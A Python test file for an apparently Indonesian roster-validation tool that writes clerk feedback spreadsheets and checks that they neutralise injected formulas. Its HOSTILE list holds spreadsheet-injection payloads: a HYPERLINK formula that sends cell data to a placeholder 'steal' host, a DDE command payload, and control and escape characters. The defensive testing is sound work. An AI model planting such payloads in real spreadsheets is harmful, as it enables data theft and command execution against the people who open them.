"""Clerk reports: each problem names the row, the column as the clerk wrote it, the value and the fix."""

from __future__ import annotations

from pathlib import Path

from openpyxl import load_workbook

from ucj.feedback import COUNTED, NOT_COUNTED, findings_for_row, write_report

HEADERS = {"nik": "No KTP", "full_name": "Nama", "birth_date": "Tgl Lahir", "village_code": "Kode Desa"}


def test_each_reason_points_at_its_cell() -> None:
    original = {"No KTP": "1310014503850001", "Nama": "Siti", "Tgl Lahir": "31/02/1985", "Kode Desa": "1310019999"}
    found = findings_for_row(7, "invalid_birth_date;unknown_village_code", "ok", original, HEADERS)
    assert [(f.row, f.column, f.value, f.effect) for f in found] == [
        (7, "Tgl Lahir", "31/02/1985", NOT_COUNTED),
        (7, "Kode Desa", "1310019999", NOT_COUNTED),
    ]
    assert "12/03/1985" in found[0].fix


def test_broken_nik_is_a_warning_on_a_counted_row() -> None:
    found = findings_for_row(3, None, "lost_digits", {"No KTP": "1.31001E+15"}, HEADERS)
    assert [(f.column, f.value, f.effect) for f in found] == [("No KTP", "1.31001E+15", COUNTED)]
    assert "Teks" in found[0].fix


def test_excel_number_nik_is_only_suspicious_when_it_ends_in_zero() -> None:
    assert findings_for_row(3, None, "excel_number", {"No KTP": "1310014503850001"}, HEADERS) == []
    assert len(findings_for_row(3, None, "excel_number", {"No KTP": "1310014503850010"}, HEADERS)) == 1


def test_missing_column_is_named() -> None:
    found = findings_for_row(2, "no_known_program", "ok", {}, HEADERS)
    assert "programs" in found[0].column


def test_report_has_indonesian_headers_and_not_counted_rows_first(tmp_path: Path) -> None:
    warn = findings_for_row(9, None, "invalid", {"No KTP": "123"}, HEADERS)
    bad = findings_for_row(12, "missing_name", "ok", {}, HEADERS)
    path = tmp_path / "r.periksa.xlsx"
    write_report(path, "Hasil pemeriksaan", warn + bad, [("Berkas", "village/2025-01/x.xlsx")])
    rows = list(load_workbook(path).active.iter_rows(values_only=True))
    header_at = next(i for i, r in enumerate(rows) if r[0] == "Baris")
    assert rows[header_at][:6] == ("Baris", "Kolom", "Isi sel", "Masalah", "Cara memperbaiki", "Akibat")
    assert [r[0] for r in rows[header_at + 1 :]] == [12, 9]


HOSTILE = [
    '=HYPERLINK("http://example.invalid/steal?"&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "Siti\x01Aminah",
    "nik\x1b[31m1310014503850001",
]


def test_report_values_are_plain_text_excel_never_evaluates(tmp_path: Path) -> None:
    """Formula and DDE payloads typed into a roster come back to the clerk as text, not as live formulas."""
    import zipfile

    findings = [
        findings_for_row(n, "unknown_village_code", "ok", {"Kode Desa": value}, HEADERS)[0]
        for n, value in enumerate(HOSTILE, 2)
    ]
    path = tmp_path / "r.periksa.xlsx"
    write_report(path, "Hasil pemeriksaan \x1b berkas", findings, [("Berkas", "village/2025-01/=x\x01.csv")])

    with zipfile.ZipFile(path) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet  # no formula cell anywhere
    cells = {r[0]: r[2] for r in load_workbook(path).active.iter_rows(values_only=True) if isinstance(r[0], int)}
    assert cells[2].startswith("=HYPERLINK")  # shown as the clerk typed it
    assert cells[3] == "=cmd|' /C calc'!A0"
    assert cells[8] == "Siti\N{REPLACEMENT CHARACTER}Aminah"
    sheet_cells = load_workbook(path).active
    leading = [c for row in sheet_cells.iter_rows() for c in row if isinstance(c.value, str) and c.value[:1] in "=+-@"]
    assert leading
    assert all(c.data_type == "s" and c.quotePrefix for c in leading)


def test_report_names_are_unique_per_file_and_bounded(tmp_path: Path, monkeypatch) -> None:
    from ucj import feedback

    monkeypatch.setenv("UCJ_VAR_DIR", str(tmp_path))
    csv_report = feedback.report_path("village/2025-01/roster.csv")
    xlsx_report = feedback.report_path("village/2025-01/roster.xlsx")
    assert csv_report != xlsx_report
    long_a = feedback.report_path("village/2025-01/" + "a" * 250 + "1.csv")
    long_b = feedback.report_path("village/2025-01/" + "a" * 250 + "2.csv")
    assert long_a != long_b
    assert max(len(long_a.name), len(long_b.name)) <= 160
    odd = feedback.report_path("village/2025-01/rekap\x1b[0m\x01.xlsx")
    assert "\x1b" not in odd.name
    assert "\x01" not in odd.name
    write_report(long_a, "x", [], [])
    write_report(odd, "x", [], [])
    assert long_a.exists()
    assert odd.exists()
